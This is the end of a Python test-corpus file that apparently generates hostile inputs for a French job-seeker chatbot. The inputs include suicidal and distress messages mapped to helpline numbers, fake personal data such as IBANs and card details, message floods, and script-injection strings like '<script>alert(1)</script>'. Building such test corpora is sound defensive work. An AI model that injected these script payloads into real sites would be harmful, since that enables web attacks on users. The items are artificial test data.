        Hostile("detresse", "avec des émojis", "je veux mourir 😭😭", numbers=SUICIDE),
        Hostile("detresse", "deux dangers", "je dors dehors et mon mari me frappe", numbers=RUE + VIOLENCE),
        # distress.py reads the first 2,000 characters of a message: a story of 1,000 characters.
        Hostile("detresse", "récit de 1 000 caractères finissant par « je veux mourir »",
                ("je cherche du travail depuis longtemps et rien ne marche " * 20)[:985] + " je veux mourir",
                numbers=SUICIDE),
        Hostile("detresse", "après une injection", "<script>x</script> je veux mourir", numbers=SUICIDE),
    ]
    return out


def _personal_data() -> List[Hostile]:
    items = [
        ("téléphone", "mon numéro c'est 06 12 34 56 78"), ("téléphone collé", "0612345678"),
        ("téléphone international", "+33 6 12 34 56 78"), ("téléphone 0033", "0033612345678"),
        ("téléphone à points", "06.12.34.56.78"), ("téléphone étranger", "+221 77 123 45 67"),
        ("courriel", "mon mail jean.dupont@example.org"), ("courriel seul", "jean.dupont+cv@example.org"),
        ("NIR", "mon numéro de sécu 1 85 05 78 006 084 36"), ("NIR collé", "185057800608436"),
        ("IBAN", "FR76 3000 6000 0112 3456 7890 189"), ("IBAN collé", "FR7630006000011234567890189"),
        ("carte bancaire", "4970 1012 3456 7890 exp 12/28 cvv 123"),
        ("adresse postale", "j'habite 12 rue de la République 93140 Bondy"),
        ("nom complet", "je m'appelle Jean Dupont, né le 12/03/1994"),
        ("identifiant France Travail", "mon identifiant france travail 1234567A"),
        ("mot de passe", "mon mot de passe c'est Azerty123!"),
        ("tout ensemble", "Jean Dupont 06 12 34 56 78 jean@example.org FR7630006000011234567890189"),
        ("numéro de titre de séjour", "titre de séjour n° 9312345678"),
        ("santé", "j'ai un cancer et je suis en ALD"),
    ]
    out = _many("donnees_personnelles", items)
    out += _many("donnees_personnelles", ((f"{k}, en réponse", v) for k, v in items), STARTED)
    return out


def _floods() -> List[Hostile]:
    texts = [("bonjour ×20", "bonjour"), ("j'ai 30 ans ×20", "j'ai 30 ans"), ("émoji ×20", "👍"),
             ("aide ×20", "aide"), ("recommencer ×20", "recommencer"),
             ("effacer mes données ×20", "effacer mes données"),
             ("injection ×20", "<script>alert(1)</script>"), ("/restart ×20", "/restart"),
             ("message vide ×20", ""), ("je veux mourir ×20", "je veux mourir")]
    out = [Hostile("flood", label, text, repeat=20,
                   numbers=SUICIDE if "mourir" in text else ()) for label, text in texts]
    out += [Hostile("flood", f"{label}, en réponse", text, repeat=20, before=STARTED,
                    numbers=SUICIDE if "mourir" in text else ()) for label, text in texts[:5]]
    return out


def corpus() -> List[Hostile]:
    """Every message, always in the same order."""
    messages = (_empty() + _blank() + _long() + _emoji() + _languages() + _sms() + _ages() + _communes()
                + _injections() + _characters() + _commands() + _insults() + _distress()
                + _personal_data() + _floods())
    unknown = {m.category for m in messages} - set(CATEGORIES)
    assert not unknown, unknown
    return messages


if __name__ == "__main__":  # a count per category
    from collections import Counter

    counts = Counter(m.category for m in corpus())
    for category in CATEGORIES:
        print(f"{counts[category]:5d}  {category}")
    print(f"{sum(counts.values()):5d}  en tout")
